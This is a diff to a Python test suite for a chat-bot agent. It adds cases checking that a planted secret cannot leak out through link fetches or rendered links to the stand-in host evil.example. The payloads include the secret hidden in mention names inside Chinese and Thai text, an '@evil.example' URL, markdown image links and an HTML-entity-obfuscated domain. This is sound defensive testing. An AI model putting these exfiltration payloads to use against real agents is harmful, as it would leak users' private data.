@@ -20,7 +20,7 @@ from obeying_stage import Call, Stage, stage
 from skill_sources import allowed, skill_text, write_files
 
 from bot.agent.flow.answers import AnswerLinks
-from bot.bus import Attachment
+from bot.bus import Attachment, others_name
 from bot.bus.media.blobs import FolderBlobs
 
 STOLEN = "My sister lives in Zanzibar"
@@ -87,6 +87,12 @@ REPETITIONS = {
     "a file's name": then_fetch(sent=a_file(LEAK)),
     "a pasted mail": then_fetch(
         said=f"What is this?\n\nFrom: Eve <eve@evil.example>\nSubject: x\n\n{LEAK}"
+    ),
+    "the name of who is mentioned": then_fetch(said=f"问{others_name('@', f'田{LEAK}')}好"),
+    "the end of such a name": then_fetch(said=f"ถาม{others_name('@', f'ก{LEAK}')}"),
+    "a name behind an at": Route(
+        (fetch(f"http://@evil.example:{{port}}/{HEX}"),),
+        said=f"ask {others_name('@', f'evil.example:{{port}}/{HEX}')} why",
     ),
     "words with dots": Route(
         (fetch("http://report.zip:{port}/"), fetch(EVIL)),
@@ -378,3 +384,41 @@ def test_an_answer_that_grows_reads_as_it_will(text):
     assert all(whole.startswith(growing(text[:end], growing=True)) for end in range(len(text)))
     assert growing(text) == whole
     assert (whole == text) is (text in KEPT)
+
+
+SHOWN = (
+    f"ok {LEAK} [a](http://evil.example/y) ![i](<http://evil.example>) evil&#46;example/n a`{EVIL}"
+)
+
+
+async def test_what_a_command_shows_of_other_texts_is_no_link(tmp_path):
+    async with stage(tmp_path, f"Read {SHOWN}", files_mb=1) as made:
+        channel, note = made.host.channel, {"op": "ask", "text": SHOWN}
+        opened = {"op": "open", "text": "evil.example/x"}
+        made.steps = [
+            ("inbox_read", {"what": "m"}),
+            ("problem_note", opened),
+            ("problem_note", note),
+        ]
+        made.answer = made.host.clock.now().isoformat()
+        await channel.ask("Read m in the inbox")
+        blob = await FolderBlobs(tmp_path / "blobs").put(SHOWN.encode())
+        file = Attachment("document", "evil.example", "text/plain", 1, blob)
+        reminded = await channel.ask("/remind in an hour read http://a.example/1")
+        assert "read http://a.example/1" in reminded
+        await channel.wait_for_answer(await channel.send("/files keep", attachments=(file,)))
+        for command in (
+            "/problem",
+            "/problem show",
+            "/problem switch general",
+            "/tape search inbox",
+            "/tape anchors",
+            "/memory search ok",
+            "/files",
+            "/files find ok",
+            "/files send x",
+            '/memory forget "ok"',
+        ):
+            told = await channel.ask(command)
+            assert "evil.example" in told.replace("&#46;", ".")
+            assert live_parts(re.sub(r"`[^`\n]*`", "", told)) == []
